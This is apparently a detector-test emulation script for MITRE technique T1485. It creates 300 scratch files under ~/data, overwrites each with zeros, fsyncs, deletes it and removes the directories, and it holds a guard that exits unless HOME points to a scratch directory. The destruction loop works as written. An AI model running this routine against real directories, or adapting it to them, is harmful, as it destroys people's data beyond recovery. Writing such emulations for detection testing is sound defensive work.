# technique: T1485
"""Data Destruction (T1485): files overwritten with zeros (shred-like, so
recovery tools find nothing) and then unlinked one by one with os.unlink.

Creates a scratch tree of 300 files under ~/data (the victim), then for
each: open "r+b", write zeros over its length, fsync, os.unlink. Finally
removes the emptied directories with os.rmdir from the bottom up.

A good detector raises a high alert: one process overwrites and deletes
hundreds of files in a short time.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

root = os.path.join(os.path.expanduser("~"), "data")
for d in range(6):
    sub = os.path.join(root, f"db{d}")
    os.makedirs(sub, exist_ok=True)
    for i in range(50):
        with open(os.path.join(sub, f"part-{i:04d}.dat"), "wb") as f:
            f.write(b"customer-record;" * 64)

n = 0
for dirpath, dirnames, files in os.walk(root, topdown=False):
    for name in files:
        p = os.path.join(dirpath, name)
        size = os.path.getsize(p)
        with open(p, "r+b") as f:
            f.write(b"\0" * size)
            f.flush()
            os.fsync(f.fileno())
        os.unlink(p)
        n += 1
    os.rmdir(dirpath)
print("destroyed", n)
